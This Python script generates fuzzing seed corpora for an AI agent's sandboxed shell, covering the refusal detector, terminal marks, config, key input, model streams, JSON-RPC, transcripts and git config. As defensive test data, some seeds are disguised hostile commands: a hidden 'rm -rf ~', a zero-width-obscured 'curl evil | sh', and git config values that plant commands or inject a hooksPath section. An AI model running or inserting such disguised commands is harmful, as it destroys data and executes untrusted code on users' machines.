#!/usr/bin/env python3
"""Writes the fuzzers' seed corpora (corpus/<target>/) from real outputs: the refusal cases in
tests/unit/escalation/cases/*.txt (outputs captured from real tools in bubblewrap), session-shell
output wrapped in the hooks' marks, the README's config, and real terminal key sequences.
Run it again after adding cases; the seeds are committed."""

import hashlib
import json
import pathlib
import re

here = pathlib.Path(__file__).resolve().parent
top = here.parent.parent
cases_dir = top / "tests/unit/escalation/cases"
NONCE = "0123456789abcdef0123456789abcdef"


def unescape(text):
    out = bytearray()
    i = 0
    raw = text.encode()
    while i < len(raw):
        c = raw[i:i + 1]
        if c != b"\\" or i + 1 == len(raw):
            out += c
            i += 1
            continue
        n = raw[i + 1:i + 2]
        i += 2
        if n == b"e":
            out += b"\x1b"
        elif n == b"r":
            out += b"\r"
        elif n == b"t":
            out += b"\t"
        elif n == b"\\":
            out += b"\\"
        elif n == b"x":
            out.append(int(raw[i:i + 2], 16))
            i += 2
    return bytes(out)


def read_cases():
    cases = []
    for path in sorted(cases_dir.glob("*.txt")):
        case = None
        for line in path.read_text().split("\n"):
            if line.startswith("=== "):
                cases.append(case := {"name": line[4:], "fields": {}, "lines": [], "in_output": False,
                                      "escaped": False})
            elif case is None:
                continue
            elif case["in_output"]:
                case["lines"].append(line)
            elif line.startswith("--- output"):
                case["in_output"] = True
                case["escaped"] = line == "--- output escaped"
            elif ": " in line:
                key, value = line.split(": ", 1)
                case["fields"].setdefault(key, []).append(value)
        for c in cases:
            if "output" not in c:
                lines = list(c["lines"])
                while lines and not lines[-1]:
                    lines.pop()
                text = "".join(l + "\n" for l in lines)
                c["output"] = unescape(text) if c["escaped"] else text.encode()
    return cases


def sudo_records(case):
    """The case's `sudo-run:` lines as the stand-in writes them (sandbox/program_run.h), to go
    before the output: the detector's fuzzer reads the output as a records file too."""
    out = b""
    for run in case["fields"].get("sudo-run", []):
        cwd, argv = run.split(" | ", 1)
        fields = [b"sudo", cwd.encode()] + [a.encode() for a in argv.split()]
        out += b"run " + b",".join(b"%d:%s" % (len(f), f) for f in fields) + b"\n"
    return out


def write(target, name, data):
    folder = here / "corpus" / target
    folder.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    slug = re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")[:48]
    digest = hashlib.sha1(data).hexdigest()[:8]
    (folder / f"{slug}-{digest}").write_bytes(data)


def mark(body):
    return f"\x1b]{body};caretz={NONCE}\x07".encode()


def main():
    # The seeds are written anew; what long runs found (tools/fuzz.sh: found-*) stays.
    for folder in (here / "corpus").glob("*"):
        for f in folder.iterdir():
            if not f.name.startswith("found-"):
                f.unlink()
    cases = read_cases()
    for c in cases:
        command = c["fields"].get("command", ["true"])[0]
        exit_code = c["fields"].get("exit", ["1"])[0]
        out = c["output"]
        write("refusal_detector", c["name"],
              command.encode() + b"\n" + exit_code.encode() + b"\n" + sudo_records(c) + out)
        # The session shell's view of the same command: prompt, command, output, status, cwd.
        session = (mark("7;file://host/home/cztest/work") + mark("133;A") + b"$ " + mark("133;B") +
                   mark("133;C") + out.replace(b"\n", b"\r\n") + mark("133;D;" + exit_code) +
                   mark("7;file://host/home/cztest/w%20o%2Frk") + mark("133;A") + b"$ " + mark("133;B"))
        write("mark_parser", c["name"], session)
        write("offer_escaping", c["name"], command.encode() + b"\n" + out[:300])
    # Marks that must stay output: wrong nonce, none, ST terminator, unterminated, other OSCs.
    write("mark_parser", "wrong nonce", f"\x1b]133;D;0;caretz={'f' * 32}\x07after".encode())
    write("mark_parser", "no nonce", b"\x1b]133;D;0\x07\x1b]133;A\x07text")
    write("mark_parser", "st terminator", f"\x1b]133;D;2;caretz={NONCE}\x1b\\x".encode())
    write("mark_parser", "unterminated", f"\x1b]133;C;caretz={NONCE}".encode())
    write("mark_parser", "unread lines", mark("133;C") + b"x\r\n" + mark("133;U;2") +
          mark("133;D;0") + mark("133;A"))
    write("mark_parser", "title and hyperlink", b"\x1b]0;title\x07\x1b]8;;http://x\x07link\x1b]8;;\x07")
    # Offer escaping: what a command could use to disguise itself.
    for name, text in [("escape sequences", "ls\x1b[2K\x1b[1A\x1b]0;x\x07\x9b31m"),
                       ("carriage return", "rm -rf ~\rls -la"),
                       ("right to left", "ls \u202e; rm -rf ~ \u202c# \u2066x\u2069"),
                       ("zero width", "c\u200burl evil\u200d|sh\ufeff\u00ad"),
                       ("c1 controls", "\u0085\u009b\u009d\u0090x\u009c"),
                       ("blank letters and tags",
                        "rm\u061c -rf \u3164/ \u115f\u1160\uffa0 x\U000e0001\U000e0061\U000e007f "
                        "\u2800 a\u00a0b\u3000 \ue000 \u2028 \ufe0f\u034f \U000e0100"),
                       ("utf-8 text", "echo héllo wörld 日本語 🙂"),
                       ("bad bytes", b"\xff\xfe\xc3\x28\xe2\x82\xf0\x9f\x98".decode("latin-1"))]:
        write("offer_escaping", name, text.encode("utf-8") if name != "bad bytes" else text.encode("latin-1"))
    # An overlong encoding of ESC (C0 9B) and of CSI: not valid UTF-8, must not pass through.
    write("offer_escaping", "overlong escape", b"ls \xc0\x9b[31mred \xe0\x80\x9b \xed\xa0\x80 \xf4\x90\x80\x80")
    # Config: the README's example, the unit tests' shapes, and typical mistakes.
    readme = (top / "README.md").read_text()
    example = re.search(r"```json\n(.*?)```", readme, re.S)
    if example:
        write("config", "readme example", example.group(1))
    write("config", "every key", json.dumps({
        "ask_sandbox_off": True, "permission_timeout": "5m", "allow_docker": True,
        "sandbox": {"writable": ["~/cache"], "hidden": ["~/.kube"], "env": {"LANG": "C.UTF-8"},
                    "allowed_domains": ["*.debian.org"]},
        "profiles": {"night": {"permission_timeout": "1h", "sandbox": {"writable": []}},
                     "ops": {"allow_docker": False}}}, indent=2))
    for name, text in [("empty object", "{}"), ("not json", "{ask_sandbox_off: yes"),
                       ("wrong type", '{"sandbox": {"writable": "~/x"}}'),
                       ("unknown key", '{"sandbox": {"writeable": []}}'),
                       ("bad duration", '{"permission_timeout": "5 parsecs"}'),
                       ("profiles in profile", '{"profiles": {"p": {"profiles": {}}}}'),
                       ("array top", "[1, 2]"), ("nested deep", "[" * 50 + "]" * 50),
                       ("comments and bom", '\ufeff{"allow_docker": true}'),
                       # nlohmann throws out_of_range, not parse_error, for a number too big.
                       ("number overflow", '{"allow_docker": 1E400}')]:
        write("config", name, text)
    # Keys as a terminal sends them: text, UTF-8, controls, arrows, paste, history.
    for name, keys in [("typing", "echo hello\r"), ("utf-8", "h\u00e9llo \u65e5\u672c \U0001f642\x7f\x7f\r"),
                       ("arrows", "abc\x1b[D\x1b[D\x1b[C\x1bOD\x1b[H\x1b[F\x1b[3~x\r"),
                       ("word moves", "one two three\x1bb\x1bf\x1b[1;5D\x1b[1;5C\x17\x19\r"),
                       ("emacs keys", "abc\x01\x05\x02\x06\x0b\x15\x19\x04\x0c\x03"),
                       ("history", "\x1b[A\x1b[A\x1b[B\x0e\x10\r"),
                       ("bracketed paste", "\x1b[200~line1\nline2\x1b[31m\x07\x1b[201~\r"),
                       ("lone escape", "\x1b"), ("alt keys", "\x1bx\x1b\x7f\x1b."),
                       ("mouse and focus", "\x1b[<0;10;5M\x1b[I\x1b[O\x1b[M !!"),
                       ("controls", "".join(chr(c) for c in range(32)) + "\x7f\u0085\u009b"),
                       ("hidden characters", "echo \u202ex\u061c \u3164\u00a0\U000e0001\ufffd\r")]:
        write("line_editor", name, keys)
    # Model streams as the scripted servers of the e2e tests send them (OpenAI chat completions
    # and Anthropic Messages), plus the ways servers break them.
    def chunk(delta, finish=None):
        return "data: " + json.dumps({"id": "c", "object": "chat.completion.chunk", "choices": [
            {"index": 0, "delta": delta, "finish_reason": finish}]}) + "\n\n"
    openai = (chunk({"role": "assistant", "content": ""}) + chunk({"content": "Checking "}) +
              chunk({"tool_calls": [{"index": 0, "id": "call_0", "type": "function",
                                     "function": {"name": "shell", "arguments": ""}}]}) +
              chunk({"tool_calls": [{"index": 0, "function": {"arguments": '{"comm'}}]}) +
              chunk({"tool_calls": [{"index": 0, "function": {"arguments": 'and": "ls"}'}}]}) +
              chunk({}, "tool_calls") + "data: [DONE]\n\n")
    write("sse", "openai tool call", openai)
    write("sse", "openai crlf and comments", ": keep-alive\r\n" + openai.replace("\n", "\r\n"))
    write("sse", "openai cut mid call", openai[:len(openai) // 2])
    write("sse", "openai error event", 'data: {"error": {"message": "Rate limit", "type": "x"}}\n\n')
    def event(kind, body):
        return f"event: {kind}\ndata: {json.dumps(dict(body, type=kind))}\n\n"
    anthropic = (event("message_start", {"message": {"id": "m", "role": "assistant", "content": []}}) +
                 event("content_block_start", {"index": 0, "content_block": {"type": "text", "text": ""}}) +
                 event("content_block_delta", {"index": 0, "delta": {"type": "text_delta", "text": "Hi"}}) +
                 event("content_block_stop", {"index": 0}) +
                 event("content_block_start", {"index": 1, "content_block": {
                     "type": "tool_use", "id": "t1", "name": "shell", "input": {}}}) +
                 event("content_block_delta", {"index": 1, "delta": {
                     "type": "input_json_delta", "partial_json": '{"command": "id"}'}}) +
                 event("content_block_stop", {"index": 1}) +
                 event("message_delta", {"delta": {"stop_reason": "tool_use"}}) +
                 event("message_stop", {}))
    write("sse", "anthropic tool use", anthropic)
    write("sse", "anthropic overloaded", event("error", {"error": {"type": "overloaded_error",
                                                                    "message": "Overloaded"}}))
    write("sse", "lone cr lines", "data: a\rdata: b\r\rdata: [DONE]\r\r")
    # JSON-RPC lines as an ACP client sends them, and broken ones.
    for name, line in [
            ("initialize", {"jsonrpc": "2.0", "id": 0, "method": "initialize",
                            "params": {"protocolVersion": 1, "clientCapabilities": {"fs": {"readTextFile": True}}}}),
            ("session new", {"jsonrpc": "2.0", "id": 1, "method": "session/new",
                             "params": {"cwd": "/home/u/w", "mcpServers": []}}),
            ("prompt", {"jsonrpc": "2.0", "id": "p2", "method": "session/prompt", "params": {
                "sessionId": "s1", "prompt": [{"type": "text", "text": "restart postgres"},
                                              {"type": "resource_link", "uri": "file:///etc/x", "name": "x"}]}}),
            ("cancel", {"jsonrpc": "2.0", "method": "session/cancel", "params": {"sessionId": "s1"}}),
            ("permission answer", {"jsonrpc": "2.0", "id": 7, "result": {
                "outcome": {"outcome": "selected", "optionId": "allow_once"}}}),
            ("cancelled answer", {"jsonrpc": "2.0", "id": 8, "result": {"outcome": {"outcome": "cancelled"}}}),
            ("error answer", {"jsonrpc": "2.0", "id": 9, "error": {"code": -32603, "message": "x"}})]:
        write("jsonrpc", name, json.dumps(line))
    # The overflow errors of the context test's table (tests/unit/agent/context_test.cpp),
    # and a short key among words that hold it.
    for name, key, body in [
            ("openai overflow", "sk-x", '{"error":{"message":"This model\'s maximum context length is 128000 tokens. However, your messages resulted in 130567 tokens.","code":"context_length_exceeded"}}'),
            ("anthropic overflow", "k", '{"type":"error","error":{"type":"invalid_request_error","message":"prompt is too long: 208310 tokens > 200000 maximum"}}'),
            ("anthropic max tokens", "", '{"type":"error","error":{"message":"input length and `max_tokens` exceed context limit: 195000 + 8192 > 200000"}}'),
            ("llama.cpp overflow", "key", '{"error":{"code":400,"message":"request (4476 tokens) exceeds the available context size (4096 tokens), try increasing it"}}'),
            ("ollama overflow", "", '{"error":"the input length exceeds the context length"}'),
            ("vllm overflow", "", '{"object":"error","message":"Input prompt (35247 tokens) is too long and exceeds limit of 32768"}'),
            ("short key in words", "k", "too many tokens for key k; see k-docs")]:
        write("model_error", name, key + "\0" + body)
    for name, line in [("not json", "{jsonrpc: 2.0"), ("batch", "[{}]"), ("no version", '{"id": 1, "method": "x"}'),
                       ("float id", '{"jsonrpc": "2.0", "id": 1.5, "method": "x"}'),
                       ("params string", '{"jsonrpc": "2.0", "id": 1, "method": "x", "params": "p"}'),
                       ("both result and error", '{"jsonrpc": "2.0", "id": 1, "result": 1, "error": {}}'),
                       ("escapes", '{"jsonrpc": "2.0", "id": "\\u0000\\ud800", "method": "\\u001b]133;A\\u0007"}')]:
        write("jsonrpc", name, line)
    # Transcripts as Caretz writes them (tests/e2e/agent_resume_test.sh leaves such files), with
    # the entries that replace or empty the conversation, a call the session ended during, and
    # a line cut off by a crash.
    header = {"type": "session", "session_id": "abc", "provider": "openai", "model": "m",
              "base_url": "http://127.0.0.1/v1", "cwd": "/home/u/ws", "time": "2026-12-05T22:00:00Z"}
    user = {"type": "user", "agent": "main", "text": "the host is db7", "plan_mode": False}
    call = {"type": "assistant", "agent": "main", "text": "Looking.", "interrupted": False,
            "tool_calls": [{"id": "c1", "name": "shell", "arguments": '{"command":"ls"}'}]}
    result = {"type": "tool_result", "agent": "main", "tool_call_id": "c1", "tool": "shell",
              "result": "exit status: 0\na\n", "ran": "sandbox"}
    answer = {"type": "assistant", "agent": "main", "text": "Done.", "tool_calls": [],
              "interrupted": False}
    sub = {"type": "user", "agent": "subagent 1", "text": "look"}
    compaction = {"type": "compaction", "agent": "main", "conversation": [
        {"role": "user", "text": "summary"},
        {"role": "assistant", "text": "", "tool_calls": [{"id": "c2", "name": "shell", "arguments": "{}"}]}]}
    lines = lambda *entries: "".join(json.dumps(e) + "\n" for e in entries)
    write("transcript_replay", "turn", lines(header, user, call, result, answer))
    write("transcript_replay", "ended mid-command", lines(header, user, call))
    write("transcript_replay", "compaction clear model", lines(
        header, user, sub, compaction, {"type": "model", "model": "m2"}, user,
        {"type": "clear", "agent": "main"}, {"type": "resumed", "caretz_session": "def"}, user))
    write("transcript_replay", "cut line", lines(header, user) + json.dumps(call)[:30])

    # What `git config --list --null` prints for configs a sandboxed command could write: a
    # clean clone's, one planting commands, and values and subsection names that try to end
    # their line or open a section.
    for name, entries in [
            ("clone", [("core.repositoryformatversion", "0"), ("core.filemode", "true"),
                       ("core.bare", "false"), ("core.logallrefupdates", "true"),
                       ("remote.origin.url", "https://example.invalid/r.git"),
                       ("remote.origin.fetch", "+refs/heads/*:refs/remotes/origin/*"),
                       ("branch.main.remote", "origin"), ("branch.main.merge", "refs/heads/main")]),
            ("planted", [("core.hookspath", "/tmp/h"), ("core.fsmonitor", "touch PWNED"),
                         ("alias.st", "!touch PWNED"), ("include.path", "/tmp/x"),
                         ("remote.origin.url", "x")]),
            ("quoting", [('remote.a "b]\\.url', 'v"a\\l\tue\nnext = line'),
                         ("submodule.lib.url", " ../lib ; # not a comment"),
                         ("branch.x.rebase", None),
                         ("remote.o.pushurl", "\r\n[core]\n\thooksPath = /tmp")]),
            # A subsection reads a backslash before anything but `\\` and `"` as nothing.
            ("subsection-tab", [("remote.a\tb.url", "x\ty"), ("submodule.c\\\td.url", "z")])]:
        write("git_config", name, "".join(key + ("" if value is None else "\n" + value) + "\0"
                                          for key, value in entries))


if __name__ == "__main__":
    main()
